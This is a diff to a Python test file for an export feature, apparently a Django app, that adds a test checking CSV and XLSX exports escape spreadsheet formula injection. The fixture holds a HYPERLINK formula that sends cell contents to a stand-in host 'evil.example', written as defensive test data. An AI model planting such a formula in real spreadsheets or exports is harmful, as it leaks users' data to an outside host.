@@ -133,8 +133,34 @@ def test_exports_stream_xlsx_and_csv_with_the_filters_and_are_logged(custodian, 
     assert response.streaming and response["Content-Type"].startswith("text/csv")
     text = b"".join(response.streaming_content).decode("utf-8-sig")
     parsed = list(csv.reader(io.StringIO(text)))
-    assert len(parsed) == 2 and parsed[1][2] == "重庆市第五中级人民法院"
+    assert len(parsed) == 2 and parsed[1][3] == "重庆市第五中级人民法院"
     exports = Event.objects.filter(action="provision.exported").order_by("seq")
     assert [e.actor for e in exports] == [custodian, custodian]
     assert '"recipient_kind":"judicial"' in exports.last().body
     assert client.get(url, {"format": "pdf"}).status_code == 404
+
+
+def test_exports_neutralise_cells_that_would_run_as_formulas(custodian, head, act, act_items):
+    """OWASP CSV injection: a recipient typed as a formula is exported as text."""
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
+    provision = request_provision(
+        custodian,
+        recipient=formula,
+        recipient_kind="judicial",
+        legal_basis="@SUM(1+1)",
+        act=act,
+        items=refs(act_items[:1]),
+    )
+    decide_provision(head, provision, approve=True)
+    register_provided(custodian, provision, provided_on=timezone.localdate())
+    client = _client(custodian)
+    url = reverse("extraction:provision_export")
+    response = client.get(url, {"format": "csv"})
+    text = b"".join(response.streaming_content).decode("utf-8-sig")
+    row = list(csv.reader(io.StringIO(text)))[1]
+    assert "'" + formula in row and "'@SUM(1+1)" in row
+    response = client.get(url, {"format": "xlsx"})
+    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
+    cells = [c.value for c in list(sheet.iter_rows())[1]]
+    assert "'" + formula in cells and formula not in cells
+    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
